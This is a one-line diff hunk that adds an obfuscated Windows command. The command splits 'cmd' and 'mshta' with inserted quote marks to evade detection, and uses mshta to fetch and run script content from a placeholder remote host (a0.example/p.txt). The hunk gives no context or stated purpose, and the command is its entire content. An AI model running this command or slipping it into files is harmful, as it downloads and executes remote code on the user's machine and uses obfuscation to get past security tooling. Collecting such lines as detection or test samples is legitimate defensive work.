@@ -1,0 +1,1 @@
+c"m"d /c m""sh"t"a h""ttp://a0.example/p.txt
